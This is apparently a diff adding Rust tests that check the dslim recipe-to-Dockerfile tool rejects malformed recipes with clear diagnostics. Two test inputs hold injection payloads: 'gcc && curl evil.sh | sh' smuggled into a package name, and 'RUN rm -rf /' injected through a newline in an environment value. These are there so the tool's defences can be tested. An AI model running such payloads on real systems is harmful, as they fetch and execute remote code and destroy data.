@@ -1,0 +1,148 @@
+//! Bad recipes: each gets a diagnostic with file, line and column, the span underlined,
+//! a hint, and exit code 2. Never a panic.
+
+mod common;
+
+use common::Test;
+
+fn rejected(recipe: &str) -> String {
+    let out = Test::new()
+        .recipe(recipe)
+        .args(&["generate"])
+        .status(2)
+        .run();
+    assert!(
+        out.stderr.contains("dslim.kdl:"),
+        "no file:line:col in\n{}",
+        out.stderr
+    );
+    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
+    assert!(
+        !out.dir.path().join("Dockerfile").exists(),
+        "a rejected recipe wrote files"
+    );
+    out.stderr
+}
+
+macro_rules! diagnostic {
+    ($name:ident, $recipe:expr) => {
+        #[test]
+        fn $name() {
+            insta::assert_snapshot!(stringify!($name), rejected($recipe));
+        }
+    };
+}
+
+diagnostic!(kdl_syntax_error, "app \"api\" {\n    python \"3.13\n}\n");
+diagnostic!(unclosed_block, "app \"api\" {\n    python \"3.13\"\n");
+diagnostic!(typo_in_node_name, "app \"api\" {\n    python \"3.13\"\n    runtime-lib \"libpq5\"\n    entrypoint \"python\" \"main.py\"\n}\n");
+diagnostic!(
+    typo_in_property,
+    "app \"api\" {\n    python \"3.13\" manger=\"uv\"\n    entrypoint \"python\" \"main.py\"\n}\n"
+);
+diagnostic!(
+    missing_entrypoint,
+    "app \"api\" {\n    python \"3.13\"\n    port 8000\n}\n"
+);
+diagnostic!(missing_stack, "app \"api\" {\n    port 8000\n}\n");
+diagnostic!(unknown_stack, "app \"api\" {\n    cobol \"85\"\n}\n");
+diagnostic!(planned_stack, "app \"api\" {\n    ruby \"3.3\"\n}\n");
+diagnostic!(
+    bad_version,
+    "app \"api\" {\n    python \"three\"\n    entrypoint \"python\" \"main.py\"\n}\n"
+);
+diagnostic!(
+    too_old_version,
+    "app \"api\" {\n    python \"2.7\"\n    entrypoint \"python\" \"main.py\"\n}\n"
+);
+diagnostic!(
+    float_version,
+    "app \"api\" {\n    python 3.10\n    entrypoint \"python\" \"main.py\"\n}\n"
+);
+diagnostic!(
+    unknown_manager,
+    "app \"api\" {\n    node \"20\" manager=\"bun\"\n    entrypoint \"node\" \"index.js\"\n}\n"
+);
+diagnostic!(bad_package_name, "app \"api\" {\n    python \"3.13\"\n    build-deps \"gcc && curl evil.sh | sh\"\n    entrypoint \"python\" \"main.py\"\n}\n");
+diagnostic!(
+    runtime_libs_on_scratch,
+    "app \"api\" {\n    go \"1.24\"\n    runtime-libs \"libpq5\"\n}\n"
+);
+diagnostic!(
+    privileged_port_for_spa,
+    "app \"web\" {\n    node \"20\"\n    spa\n    port 80\n}\n"
+);
+diagnostic!(
+    port_out_of_range,
+    "app \"api\" {\n    go \"1.24\"\n    port 70000\n}\n"
+);
+diagnostic!(
+    root_user,
+    "app \"api\" {\n    go \"1.24\"\n    user \"root\"\n}\n"
+);
+diagnostic!(
+    duplicate_node,
+    "app \"api\" {\n    go \"1.24\"\n    runtime \"scratch\"\n    runtime \"slim\"\n}\n"
+);
+diagnostic!(
+    two_stacks,
+    "app \"api\" {\n    go \"1.24\"\n    rust \"1.85\"\n}\n"
+);
+diagnostic!(
+    two_apps,
+    "app \"a\" {\n    go \"1.24\"\n}\napp \"b\" {\n    go \"1.24\"\n}\n"
+);
+diagnostic!(
+    newline_in_env_value,
+    "app \"api\" {\n    go \"1.24\"\n    env GREETING=\"hello\\nRUN rm -rf /\"\n}\n"
+);
+diagnostic!(
+    healthcheck_without_probe,
+    "app \"api\" {\n    go \"1.24\"\n    port 8080\n    healthcheck \"/health\"\n}\n"
+);
+diagnostic!(
+    spa_on_python,
+    "app \"api\" {\n    python \"3.13\"\n    spa\n    entrypoint \"python\" \"main.py\"\n}\n"
+);
+diagnostic!(
+    several_errors_at_once,
+    "app \"API\" {\n    pyton \"3.13\"\n    prot 8000\n}\n"
+);
+diagnostic!(empty_recipe, "// nothing here yet\n");
+diagnostic!(
+    node_outside_app,
+    "python \"3.13\"\napp \"api\" {\n    go \"1.24\"\n}\n"
+);
+
+#[test]
+fn a_missing_recipe_says_where_it_looked() {
+    Test::new()
+        .args(&["generate"])
+        .status(2)
+        .stderr_has("dslim.kdl")
+        .stderr_has("write a dslim.kdl recipe")
+        .run();
+}
+
+#[test]
+fn a_recipe_that_is_not_utf8_is_refused() {
+    let test = Test::new();
+    std::fs::write(
+        test.path().join("dslim.kdl"),
+        b"app \"a\" { go \"1.24\" }\n\xff\xfe",
+    )
+    .unwrap();
+    test.args(&["generate"])
+        .status(2)
+        .stderr_has("not valid UTF-8")
+        .run();
+}
+
+#[test]
+fn every_error_of_a_recipe_is_reported_not_just_the_first() {
+    let stderr = rejected("app \"api\" {\n    pyton \"3.13\"\n    prot 8000\n}\n");
+    assert!(
+        stderr.contains("dslim.kdl:2:5") && stderr.contains("dslim.kdl:3:5"),
+        "{stderr}"
+    );
+}
